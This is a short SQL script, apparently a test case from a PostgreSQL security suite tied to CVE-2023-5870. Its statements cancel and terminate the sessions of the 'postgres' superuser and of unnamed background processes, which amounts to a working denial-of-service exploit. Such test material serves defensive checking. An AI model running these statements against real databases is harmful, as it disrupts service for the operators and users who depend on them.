-- way: end the sessions and the background processes of the superuser
-- source: CVE-2023-5870
-- control: superuser
-- section: application
SET ROLE NONE;
SELECT pg_cancel_backend(pid) FROM pg_stat_activity WHERE usename = 'postgres';
SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'postgres';
SELECT pg_cancel_backend(pid) FROM pg_stat_activity WHERE usename IS NULL;
SELECT pg_sleep(0.5);
-- section: others
SELECT pg_sleep(6) WHERE NOT EXISTS (SELECT FROM pg_stat_activity WHERE backend_type = 'logical replication launcher');
